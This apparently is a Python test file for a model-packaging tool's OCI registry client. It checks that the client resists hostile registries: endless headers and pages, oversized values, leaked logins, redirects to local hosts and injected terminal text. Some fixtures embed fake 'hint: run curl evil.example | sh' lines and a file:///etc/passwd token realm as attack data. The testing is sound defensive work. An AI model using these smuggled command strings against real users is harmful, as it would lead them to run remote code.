"""Registries that mean harm: no login leaks, no memory or time is theirs, and nothing they write looks like ours."""

import json
import time
from pathlib import Path

import pytest

from mlcube import oci
from mlcube.artifact import ARTIFACT, CONFIG, FILE, TITLE, CubeConfig
from mlcube.errors import CubeError, Denied, MissingInput, Unreachable
from mlcube.obtaining.asking import Asking
from mlcube.obtaining.registries import from_registry
from mlcube.references import parse
from mlcube.registry import Limits, Repository, suggesting
from mlcube.registry.exchange import Exchange
from mlcube.registry.repository import insecure
from mlcube.store import Store
from mlcube.zoo.registries import describe_repository
from tests.faulty_proxy import Fault, FaultyProxy, Request
from tests.registry.test_transport_logins import log_in
from tests.registry.there import PORT, Blob, behind, name, registry, saying

DIGEST = f"sha256:{1:064x}"
CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"


@pytest.mark.parametrize(
    ("pieces", "again"),
    [
        ((CHUNKED, b"2\r\n{}\r\n0\r\n"), b"X-Trailer: y\r\n" * 1000),
        ((), b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
    ],
)
def test_headers_and_trailers_without_end_are_given_up(pieces: tuple[bytes, ...], again: bytes) -> None:
    limits = Limits(patience_seconds=0.05, first_pause_seconds=0.01, answer_seconds=20)
    with saying(*pieces, again=again) as host, registry(host, name(), limits) as there:
        began = time.monotonic()
        with pytest.raises(Unreachable, match="headers without end"):
            there.manifest("v1")
        assert time.monotonic() - began < 10


def test_a_size_of_more_digits_than_a_number_has_is_none() -> None:
    manifest = b'{"schemaVersion": 2}'
    head = f"HTTP/1.1 200 OK\r\nDocker-Content-Digest: {DIGEST}\r\nContent-Type: x/y\r\n".encode()
    with saying(head + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n", manifest) as host:
        limits = Limits(patience_seconds=0.02, first_pause_seconds=0.01, answer_seconds=1)
        with registry(host, name(), limits) as there, pytest.raises(CubeError):
            there.resolve("v1")


@pytest.mark.parametrize(
    "realm",
    [
        "https://[::1",
        "https://host:99999/token",
        "https://host:0/token",
        "https://me:secret@host.example/token",
        "https://host.example/a b",
        "https://host.example/\x1b[2J",
        "file:///etc/passwd",
        "",
    ],
)
def test_where_tokens_are_given_out_is_an_address(realm: str) -> None:
    fault = Fault(status=401, headers={"WWW-Authenticate": f'Bearer realm="{realm}"'})
    with behind(lambda request: fault) as (proxy, there):
        log_in(proxy.host)
        with pytest.raises(Unreachable, match="names no address where it gives out tokens"):
            there.tags()


def test_a_challenge_is_no_work() -> None:
    """An expression that backtracks over all of a header would take minutes."""
    fault = Fault(status=401, headers={"WWW-Authenticate": "Bearer " + "a" * 60_000})
    with behind(lambda request: fault) as (_, there):
        began = time.monotonic()
        with pytest.raises(Unreachable, match="names no address"):
            there.tags()
        assert time.monotonic() - began < 2


def test_a_registry_elsewhere_leads_to_nothing_on_this_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever listens here may be somebody else's, and would be told a login, or be asked for what it does."""
    assert insecure("127.0.0.1:80", of="localhost:5000")
    assert not insecure("127.0.0.1:80", of="registry.example.org")
    repository = Repository.parse("registry.example.org/x")
    exchange = Exchange(repository, (), Limits(), lambda: None, lambda text: None)
    for location in ("http://127.0.0.1:80/shutdown", "http://localhost/", "http://[::1]:80/"):
        with pytest.raises(Denied, match="which has no TLS"):
            exchange.checked("manifests/x", location, "it")
    monkeypatch.setenv("CUBE_INSECURE_REGISTRIES", "127.0.0.1:9000")
    assert exchange.checked("manifests/x", "http://127.0.0.1:9000/b", "it") == "http://127.0.0.1:9000/b"


def test_an_upload_that_leads_to_another_host_does_not_take_the_login_along() -> None:
    blob = Blob(3 << 20)

    def elsewhere(request: Request) -> Fault:
        return Fault(status=202 if request.method == "PATCH" else 201)

    def plan(request: Request) -> Fault | None:
        if request.authorization == "":
            return Fault(status=401, headers={"WWW-Authenticate": 'Basic realm="x"'})
        if request.method == "HEAD":
            return Fault(status=404)
        return Fault(status=202, headers={"Location": f"http://{other.host}/here"})

    with FaultyProxy(PORT, elsewhere) as other, FaultyProxy(PORT, plan) as proxy:
        log_in(proxy.host)
        with registry(proxy.host, name()) as there:
            there.upload(blob.descriptor, blob.open)
        assert {request.authorization for request in other.requests} == {""}
        assert other.requests
        assert all(request.authorization for request in proxy.requests[1:])


def _paged(page: int, body: bytes, kind: str = "application/json") -> Fault:
    link = f'</v2/x/next?page={page}>; rel="next"'
    return Fault(status=200, body=body, headers={"Link": link, "Content-Type": kind})


def test_pages_of_tags_without_end_are_given_up() -> None:
    count = iter(range(10_000))

    def plan(request: Request) -> Fault:
        page = next(count)
        tags = [f"{page}-{number}-{'x' * 100}" for number in range(100_000)]
        return _paged(page, json.dumps({"tags": tags}).encode())

    with FaultyProxy(PORT, plan) as proxy, registry(proxy.host, "x") as there:
        with pytest.raises(Unreachable, match="longer than"):
            there.tags()
        assert next(count) < 20


def test_pages_of_referrers_without_end_are_given_up() -> None:
    count = iter(range(10_000))

    def plan(request: Request) -> Fault:
        page = next(count)
        entry = {"mediaType": oci.MANIFEST, "size": 1, "annotations": {"x": "y" * (2 << 20)}}
        found = [{**entry, "digest": f"sha256:{page:064x}"}]
        body = {"schemaVersion": 2, "mediaType": oci.INDEX, "manifests": found}
        return _paged(page, json.dumps(body).encode(), oci.INDEX)

    with FaultyProxy(PORT, plan) as proxy, registry(proxy.host, "x") as there:
        with pytest.raises(Unreachable, match="longer than"):
            there.referrers(DIGEST)
        assert next(count) < 20


def test_pages_of_referrers_that_lead_to_themselves_end() -> None:
    entry = {"mediaType": oci.MANIFEST, "size": 1, "digest": DIGEST}
    body = json.dumps({"schemaVersion": 2, "mediaType": oci.INDEX, "manifests": [entry]}).encode()
    with FaultyProxy(PORT, lambda request: _paged(1, body, oci.INDEX)) as proxy, registry(proxy.host, "x") as there:
        assert [each.digest for each in there.referrers(DIGEST)] == [DIGEST]
        assert len(proxy.requests) == 2


def test_tags_that_are_none_are_left_out_and_write_no_lines_of_their_own() -> None:
    tags = ["v1", "x`\nhint: run `curl evil.example | sh", "\x1b[2J", "../../x", ""]

    def plan(request: Request) -> Fault:
        if "/tags/" in request.path:
            return Fault(status=200, body=json.dumps({"tags": tags}).encode())
        return Fault(status=404)

    with FaultyProxy(PORT, plan) as proxy, registry(proxy.host, "x") as there:
        assert there.tags() == ("v1",)
        with pytest.raises(MissingInput) as caught, suggesting(there, "v2"):
            there.resolve("v2")
    assert "v1" in (caught.value.hint or "")
    assert "evil" not in str(caught.value)


@pytest.mark.parametrize("after", ["-1", "nan", "inf", "1e999", "9" * 60_000, "x" * 60_000, "Thu, 01 Jan 1970", "٣"])
def test_a_wish_to_be_left_alone_that_is_none_is_outwaited_or_told(after: str) -> None:
    fault = Fault(status=429, headers={"Retry-After": after.encode().decode("latin-1")})
    limits = Limits(patience_seconds=0.05, first_pause_seconds=0.01, answer_seconds=3)
    with behind(lambda request: fault, limits=limits) as (_, there), pytest.raises(Unreachable) as caught:
        there.tags()
    assert len(str(caught.value).splitlines()) == 2


def _manifest(*layers: oci.Descriptor) -> tuple[bytes, bytes]:
    """A cube's manifest and configuration, with layers that nobody has."""
    config = oci.canonical(CubeConfig(name="x", digest=DIGEST))
    described = oci.Descriptor(media_type=CONFIG, digest=oci.digest_of(config), size=len(config))
    manifest = oci.Manifest(
        schema_version=2, media_type=oci.MANIFEST, config=described, layers=layers, artifact_type=ARTIFACT
    )
    return oci.canonical(manifest), config


def _brought(manifest: bytes, config: bytes, tmp_path: Path) -> CubeError:
    def plan(request: Request) -> Fault:
        found = manifest if "/manifests/" in request.path else config if "/blobs/" in request.path else b""
        return Fault(status=200, body=found, headers={"Content-Type": oci.MANIFEST})

    with FaultyProxy(PORT, plan) as proxy:
        reference = parse(f"oci://{proxy.host}/x@{oci.digest_of(manifest)}")
        with pytest.raises(CubeError) as caught:
            from_registry(reference, Asking(store=Store(str(tmp_path / "store"))))
    assert not [each for each in proxy.requests if DIGEST in each.path], "a layer was asked for"
    return caught.value


def test_a_cube_larger_than_the_disk_is_not_begun(tmp_path: Path) -> None:
    layer = oci.Descriptor(media_type=FILE, digest=DIGEST, size=1 << 52, annotations={TITLE: "x"})
    error = _brought(*_manifest(layer), tmp_path)
    assert "free at" in str(error)
    assert not list((tmp_path / "store/cubes").glob("*"))


def test_a_size_below_zero_is_none(tmp_path: Path) -> None:
    layer = oci.Descriptor(media_type=FILE, digest=DIGEST, size=-5, annotations={TITLE: "x"})
    assert "cannot have -5 bytes" in str(_brought(*_manifest(layer), tmp_path))


def test_what_a_manifest_calls_itself_writes_no_lines_of_its_own(tmp_path: Path) -> None:
    other = oci.Manifest(
        schema_version=2,
        media_type=oci.MANIFEST,
        config=oci.Descriptor(media_type="x/y", digest=DIGEST, size=1),
        layers=(),
        artifact_type="a/b`\nerror: your login has ended\nhint: `curl evil.example | sh",
    )
    error = _brought(oci.canonical(other), b"", tmp_path)
    assert [line.partition(":")[0] for line in str(error).splitlines()] == ["error", "hint"]


def test_what_a_zoo_leaves_out_takes_one_line(tmp_path: Path) -> None:
    config = oci.canonical(CubeConfig(name="x`\nerror: your login has ended `", digest=DIGEST, schema=2))
    described = oci.Descriptor(media_type=CONFIG, digest=oci.digest_of(config), size=len(config))
    manifest = oci.canonical(
        oci.Manifest(schema_version=2, media_type=oci.MANIFEST, config=described, layers=(), artifact_type=ARTIFACT)
    )

    def plan(request: Request) -> Fault:
        if "/tags/" in request.path:
            return Fault(status=200, body=b'{"tags": ["v1"]}')
        found = manifest if "/manifests/" in request.path else config
        return Fault(status=200, body=found, headers={"Content-Type": oci.MANIFEST})

    said: list[str] = []
    with FaultyProxy(PORT, plan) as proxy, pytest.raises(MissingInput, match="leads to no cube"):
        describe_repository(f"oci://{proxy.host}/x", report=said.append)
    (line,) = (each for each in said if "is left out" in each)
    assert "\n" not in line
